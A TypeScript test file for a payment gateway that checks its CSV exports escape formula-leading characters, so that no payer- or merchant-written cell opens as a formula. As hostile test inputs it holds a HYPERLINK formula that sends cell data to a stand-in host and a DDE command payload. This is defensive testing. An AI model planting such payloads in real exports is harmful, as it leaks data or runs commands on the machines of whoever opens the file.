import XLSX from "xlsx";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { apiClient, createSandboxMerchant, paidTransaction, startTestGateway, type TestGateway } from "../support/gateway.ts";
import { until } from "../support/wait.ts";

/**
 * The CSV exports read back as a spreadsheet reads them (SheetJS's CSV reader): a payer's phone is the text
 * "+254708374149", and no cell a payer or merchant wrote becomes a formula.
 */
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

type Cell = { t: string; v?: unknown; f?: string };

function sheetOf(csv: string): { header: string[]; rows: Record<string, Cell>[]; cells: Cell[] } {
  const sheet = XLSX.read(csv, { type: "string" }).Sheets.Sheet1!;
  const range = XLSX.utils.decode_range(sheet["!ref"]!);
  const cellAt = (r: number, c: number) => sheet[XLSX.utils.encode_cell({ r, c })] as Cell | undefined;
  const header: string[] = [];
  for (let c = range.s.c; c <= range.e.c; c++) header.push(String(cellAt(0, c)?.v ?? ""));
  const rows: Record<string, Cell>[] = [];
  const cells: Cell[] = [];
  for (let r = 1; r <= range.e.r; r++) {
    const row: Record<string, Cell> = {};
    header.forEach((name, c) => {
      const cell = cellAt(r, c);
      if (cell) {
        row[name] = cell;
        cells.push(cell);
      }
    });
    rows.push(row);
  }
  return { header, rows, cells };
}

describe("CSV exports in a spreadsheet", () => {
  let gw: TestGateway;
  let key: string;
  let channelId: number;

  beforeAll(async () => {
    gw = await startTestGateway({ env: { RATE_LIMIT_ENABLED: "false", SANDBOX_STK_DELAY_MS: "100", JOB_POLL_INTERVAL_MS: "100" } });
    const merchant = await createSandboxMerchant(gw);
    key = merchant.testKey;
    channelId = merchant.channelId;
  });
  afterAll(async () => {
    await gw?.close();
  });

  it("shows the phone as text and never makes a formula of what a payer or merchant wrote", async () => {
    const api = apiClient(gw.url, key);
    const push = await api.post("/api/momo/stk-push", { amount: 150_000, phone_number: "+254708374149", payment_channel_id: channelId, reference: HOSTILE, description: "@SUM(1+1)" });
    expect(push.status, push.text).toBe(200);
    const pushed = push.body.transaction.reference as string;
    await until(
      async () => (await api.get(`/api/momo/stk-status/${pushed}`)).body.transaction?.status,
      (status) => status === "completed",
      20_000,
    );
    const card = await paidTransaction(gw.url, key, { amount: 1500, email: "payer@example.com", reference: "-2+3", description: "+cmd|' /C calc'!A0" });

    const transactions = await api.get("/v1/reports/transactions.csv");
    expect(transactions.status, transactions.text).toBe(200);
    const { rows, cells } = sheetOf(transactions.text);
    for (const cell of cells) expect(cell.f, JSON.stringify(cell)).toBeUndefined();
    const push_ = rows.find((row) => row.reference?.v === pushed)!;
    expect(push_.phone_number).toMatchObject({ t: "s", v: "+254708374149" });
    // A cell that would start a formula is the same text behind an apostrophe, read as text.
    expect(push_.client_reference).toMatchObject({ t: "s", v: `'${HOSTILE}` });
    expect(push_.description).toMatchObject({ t: "s", v: "'@SUM(1+1)" });
    expect(push_.amount).toMatchObject({ t: "n", v: 150_000 });
    const card_ = rows.find((row) => row.reference?.v === card)!;
    expect(card_.client_reference).toMatchObject({ t: "s", v: "'-2+3" });
    expect(card_.description).toMatchObject({ t: "s", v: "'+cmd|' /C calc'!A0" });
    // An e-mail stays as written, and no cell of a plain value is quoted into text.
    expect(card_.email).toMatchObject({ t: "s", v: "payer@example.com" });
    expect(card_.status).toMatchObject({ t: "s", v: "completed" });

    // The balance transactions' CSV goes through the same cell writer.
    const balance = await api.get("/v1/reports/balance-transactions.csv");
    expect(balance.status, balance.text).toBe(200);
    const ledger = sheetOf(balance.text);
    expect(ledger.rows.length).toBeGreaterThan(0);
    for (const cell of ledger.cells) expect(cell.f, JSON.stringify(cell)).toBeUndefined();
    expect(ledger.rows.some((row) => row.source_reference?.v === pushed)).toBe(true);
  });
});
